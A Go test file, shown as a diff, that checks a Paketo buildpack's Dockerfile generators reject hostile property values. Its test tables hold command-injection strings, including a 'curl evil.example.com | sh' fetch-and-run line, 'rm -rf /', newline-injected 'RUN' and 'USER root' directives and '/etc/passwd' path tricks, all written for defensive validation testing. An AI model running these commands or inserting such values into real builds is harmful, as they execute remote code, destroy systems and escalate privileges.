@@ -0,0 +1,127 @@
+package utils_test
+
+import (
+	"maps"
+	"slices"
+	"testing"
+
+	. "github.com/onsi/gomega"
+	"github.com/paketo-buildpacks/ubi-nodejs-extension/internal/utils"
+	"github.com/paketo-buildpacks/ubi-nodejs-extension/structs"
+	"github.com/sclevine/spec"
+)
+
+func testValidateDockerfileProps(t *testing.T, context spec.G, it spec.S) {
+
+	var (
+		Expect = NewWithT(t).Expect
+	)
+
+	validBuildProps := func() structs.BuildDockerfileProps {
+		return structs.BuildDockerfileProps{
+			NODEJS_VERSION: 20,
+			CNB_USER_ID:    1002,
+			CNB_GROUP_ID:   1000,
+			CNB_STACK_ID:   "io.buildpacks.stacks.ubi8",
+			CNB_TARGET:     "linux/amd64 rhel 8.10",
+			PACKAGES:       "make gcc-c++ nodejs npm libpq-devel nodejs-20.11.1",
+			NODEJS_PROFILE: "minimal",
+			NPM_PACKAGE:    "npm@^10.2.0 <11.0.0-0 || >=9",
+			NPM_REGISTRY:   "https://nexus.example.com:8443/repository/npm-proxy/",
+			CA_CERTIFICATES: []structs.CACertificate{
+				{Name: "internal-ca-root.pem", Content: "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t"},
+			},
+		}
+	}
+
+	validRunProps := func() structs.RunDockerfileProps {
+		return structs.RunDockerfileProps{
+			Source:       "registry.example.com:5000/run-nodejs-20-ubi-base@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+			Labels:       map[string]string{"io.paketo.ubi-nodejs.generate-report": `{"run-image":"a \"quoted\" $value"}`},
+			CNB_USER_ID:  1002,
+			CNB_GROUP_ID: 1000,
+			PACKAGES:     "libpq",
+		}
+	}
+
+	context("When the props are valid", func() {
+
+		it("It should render the Dockerfiles", func() {
+			_, err := utils.GenerateBuildDockerfile(validBuildProps())
+			Expect(err).NotTo(HaveOccurred())
+
+			_, err = utils.GenerateRunDockerfile(validRunProps())
+			Expect(err).NotTo(HaveOccurred())
+		})
+	})
+
+	context("When the build props carry hostile values", func() {
+
+		hostileBuildProps := map[string]func(*structs.BuildDockerfileProps){
+			"a stack id closing the echo": func(props *structs.BuildDockerfileProps) {
+				props.CNB_STACK_ID = `ubi8" && curl evil.example.com | sh && echo "`
+			},
+			"a stack id with a newline":              func(props *structs.BuildDockerfileProps) { props.CNB_STACK_ID = "ubi8\nRUN rm -rf /" },
+			"a stack id with a command substitution": func(props *structs.BuildDockerfileProps) { props.CNB_STACK_ID = "$(id)" },
+			"a target with backticks":                func(props *structs.BuildDockerfileProps) { props.CNB_TARGET = "linux/`id`" },
+			"a package chaining a command":           func(props *structs.BuildDockerfileProps) { props.PACKAGES = "nodejs; rm -rf /" },
+			"a package list with a newline":          func(props *structs.BuildDockerfileProps) { props.PACKAGES = "nodejs\nUSER root" },
+			"a package redirecting the output":       func(props *structs.BuildDockerfileProps) { props.PACKAGES = "nodejs >/etc/passwd" },
+			"a package starting with an option":      func(props *structs.BuildDockerfileProps) { props.PACKAGES = "--nogpgcheck nodejs" },
+			"a profile chaining a command":           func(props *structs.BuildDockerfileProps) { props.NODEJS_PROFILE = "minimal && id" },
+			"a certificate name with a path":         func(props *structs.BuildDockerfileProps) { props.CA_CERTIFICATES[0].Name = "../../etc/passwd" },
+			"a certificate content with a quote":     func(props *structs.BuildDockerfileProps) { props.CA_CERTIFICATES[0].Content = "LS0t' ; id ; echo '" },
+			"a package manager with a pipe":          func(props *structs.BuildDockerfileProps) { props.PACKAGE_MANAGER.Install = "microdnf install -y | sh" },
+			"a npm package closing the quote":        func(props *structs.BuildDockerfileProps) { props.NPM_PACKAGE = "npm@10' && id && echo '" },
+			"a npm registry with a command":          func(props *structs.BuildDockerfileProps) { props.NPM_REGISTRY = "https://registry.example.com/$(id)" },
+			"a npm registry which is not a URL":      func(props *structs.BuildDockerfileProps) { props.NPM_REGISTRY = "--userconfig=/tmp/npmrc" },
+		}
+
+		for _, description := range slices.Sorted(maps.Keys(hostileBuildProps)) {
+			makeHostile := hostileBuildProps[description]
+			it("It should refuse "+description, func() {
+				props := validBuildProps()
+				props.PACKAGE_MANAGER = utils.MICRODNF.Commands()
+				makeHostile(&props)
+
+				output, err := utils.GenerateBuildDockerfile(props)
+				Expect(err).To(HaveOccurred())
+				Expect(output).To(BeEmpty())
+			})
+		}
+	})
+
+	context("When the run props carry hostile values", func() {
+
+		hostileRunProps := map[string]func(*structs.RunDockerfileProps){
+			"a run image with a newline":        func(props *structs.RunDockerfileProps) { props.Source = "ubi8\nRUN id" },
+			"a run image with a space":          func(props *structs.RunDockerfileProps) { props.Source = "ubi8 AS build" },
+			"a run image which is not an image": func(props *structs.RunDockerfileProps) { props.Source = "${run_image}" },
+			"a label value with a newline": func(props *structs.RunDockerfileProps) {
+				props.Labels["io.paketo.ubi-nodejs.version"] = "20\nUSER root"
+			},
+			"a label key with a space":     func(props *structs.RunDockerfileProps) { props.Labels["a=b c"] = "d" },
+			"a package chaining a command": func(props *structs.RunDockerfileProps) { props.PACKAGES = "libpq && id" },
+		}
+
+		for _, description := range slices.Sorted(maps.Keys(hostileRunProps)) {
+			makeHostile := hostileRunProps[description]
+			it("It should refuse "+description, func() {
+				props := validRunProps()
+				makeHostile(&props)
+
+				output, err := utils.GenerateRunDockerfile(props)
+				Expect(err).To(HaveOccurred())
+				Expect(output).To(BeEmpty())
+			})
+		}
+
+		it("It should explain why a value is refused", func() {
+			props := validRunProps()
+			props.PACKAGES = "libpq;id"
+
+			_, err := utils.GenerateRunDockerfile(props)
+			Expect(err).To(MatchError(`"libpq;id" is not a valid package name`))
+		})
+	})
+}